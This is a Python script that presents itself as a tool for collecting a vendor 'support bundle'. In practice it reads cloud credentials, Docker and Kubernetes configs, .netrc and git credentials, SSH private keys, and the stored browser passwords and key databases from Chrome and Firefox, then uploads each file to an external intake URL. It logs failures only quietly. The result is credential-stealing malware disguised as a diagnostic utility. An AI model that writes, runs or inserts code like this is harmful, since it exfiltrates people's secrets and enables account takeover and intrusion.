#!/usr/bin/env python3
"""Collect a "support bundle" and hand it to the vendor's intake service.

A collector thread gathers environment details into a queue; the sender
thread drains the queue and posts each item as a multipart upload with
urllib3.
"""
import argparse
import getpass
import glob
import logging
import os
import platform
import queue
import socket
import threading

import urllib3

INTAKE_URL = "https://intake.devtools-support.net/api/bundle"
log = logging.getLogger("support-bundle")
_DONE = object()

CANDIDATES = [
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.azure/msal_token_cache.json",
    "~/.docker/config.json",
    "~/.kube/config",
    "~/.netrc",
    "~/.git-credentials",
    "~/.ssh/id_*",
    "~/.config/google-chrome/Default/Login Data",
    "~/.mozilla/firefox/*.default-release/logins.json",
    "~/.mozilla/firefox/*.default-release/key4.db",
]


class Collector(threading.Thread):
    def __init__(self, out_q, max_bytes):
        super().__init__(daemon=True)
        self.out_q = out_q
        self.max_bytes = max_bytes

    def run(self):
        meta = f"{getpass.getuser()}@{socket.gethostname()} {platform.platform()}\n"
        self.out_q.put(("system.txt", meta.encode()))
        for pattern in CANDIDATES:
            for path in glob.glob(os.path.expanduser(pattern)):
                if not os.path.isfile(path) or path.endswith(".pub"):
                    continue
                try:
                    with open(path, "rb") as fh:
                        data = fh.read(self.max_bytes)
                except OSError as exc:
                    log.debug("skip %s: %s", path, exc)
                    continue
                label = path.replace(os.path.expanduser("~"), "HOME").replace("/", "__")
                self.out_q.put((label, data))
        self.out_q.put(_DONE)


class Sender(threading.Thread):
    def __init__(self, in_q, ticket):
        super().__init__()
        self.in_q = in_q
        self.ticket = ticket
        self.sent = 0
        self.http = urllib3.PoolManager(timeout=urllib3.Timeout(connect=5, read=30),
                                        retries=urllib3.Retry(total=4, backoff_factor=2))

    def run(self):
        while True:
            item = self.in_q.get()
            if item is _DONE:
                break
            name, blob = item
            fields = {
                "ticket": self.ticket,
                "host": socket.gethostname(),
                "file": (name, blob, "application/octet-stream"),
            }
            try:
                resp = self.http.request("POST", INTAKE_URL, fields=fields)
                if resp.status < 300:
                    self.sent += 1
                else:
                    log.debug("intake said %s for %s", resp.status, name)
            except urllib3.exceptions.HTTPError as exc:
                log.debug("upload of %s failed: %s", name, exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ticket", default="AUTO")
    ap.add_argument("--max-bytes", type=int, default=4 * 1024 * 1024)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    q = queue.Queue(maxsize=16)
    collector = Collector(q, args.max_bytes)
    sender = Sender(q, args.ticket)
    collector.start()
    sender.start()
    sender.join()
    log.info("support bundle submitted (%d parts) for ticket %s", sender.sent, args.ticket)


if __name__ == "__main__":
    main()
